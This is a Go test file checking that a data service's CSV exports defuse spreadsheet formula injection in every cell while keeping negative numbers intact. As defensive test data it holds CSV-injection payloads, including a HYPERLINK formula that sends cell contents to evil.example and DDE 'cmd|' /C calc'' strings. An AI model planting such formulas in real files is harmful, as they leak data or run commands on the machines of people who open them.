package export_test

import (
	"strings"
	"testing"
	"time"

	"councilgraph/store"
	"councilgraph/store/storetest"
)

// TestFormulasAreDefusedInEveryCell puts a formula into every kind of cell
// a download writes (plain text, lists such as aliases, sources' documents
// and locators, and the analysis layout's names, periods, trend periods,
// value text, source documents and lines, notes) and checks that no cell
// of any download, nor any "; "-joined item of one, starts as a formula,
// while negative numbers stay numbers.
func TestFormulasAreDefusedInEveryCell(t *testing.T) {
	t.Parallel()
	s := storetest.New(t, nil)
	f := func(s string) *string { return &s }
	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|'/c calc'!A1", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"}
	src := []store.Source{{Document: formulas[0], Locator: f(formulas[1])}, {Document: "a.txt", Locator: f(formulas[2])}}
	at := time.Date(2023, 6, 15, 12, 0, 0, 0, time.UTC)
	low := -4.5
	docs := []store.Doc{
		&store.Person{Record: store.Record{ID: "person:x", Sources: src, Notes: f(formulas[3])}, Name: formulas[4], Aliases: []string{"Zed", formulas[0], formulas[1]}, JobTitle: f(formulas[5])},
		&store.Area{Record: store.Record{ID: "area:x", Sources: src}, Name: formulas[2], Kind: "local-authority"},
		&store.Area{Record: store.Record{ID: "area:y", Sources: src}, Name: "Other", Kind: "region"},
		&store.Indicator{Record: store.Record{ID: "indicator:x", Sources: src, Notes: f(formulas[0])}, Name: formulas[1], Unit: "%", Polarity: "HIGHER_IS_BETTER", Theme: f(formulas[3])},
	}
	for i, period := range []string{formulas[0], "2021/22", formulas[3]} {
		for _, area := range []string{"area:x", "area:y"} {
			docs = append(docs, &store.Observation{
				Record:      store.Record{ID: "observation:" + area[5:] + string(rune('a'+i)), Sources: src, Notes: f(formulas[i])},
				IndicatorID: "indicator:x", AreaID: area, Period: period, Value: -1.5 - float64(i), LowerCI95: &low, ValueText: f(formulas[2]),
			})
		}
	}
	for _, d := range docs {
		if err := s.Put(t.Context(), at, d); err != nil {
			t.Fatal(err)
		}
	}
	h := service(s)
	numbers := 0
	for _, path := range []string{"/export/people.csv", "/export/areas.csv", "/export/indicators.csv", "/export/observations.csv", "/export/observations-analysis.csv"} {
		rec := get(t, h, "", path)
		if rec.Code != 200 {
			t.Fatalf("%s: %d %s", path, rec.Code, rec.Body)
		}
		_, rows := readCSV(t, rec.Body.Bytes())
		if len(rows) == 0 {
			t.Fatalf("%s: no rows", path)
		}
		for _, row := range rows {
			for col, cell := range row {
				for _, item := range append([]string{cell}, strings.Split(cell, "; ")...) {
					if item == "" || !strings.ContainsRune("=+-@\t\r\n", rune(item[0])) {
						continue
					}
					if strings.Trim(item, "-.0123456789") == "" {
						numbers++ // a negative figure stays a number
						continue
					}
					t.Errorf("%s, column %s: %q starts as a formula", path, col, item)
				}
			}
		}
	}
	if numbers == 0 {
		t.Error("no negative figure was written as a number")
	}
}
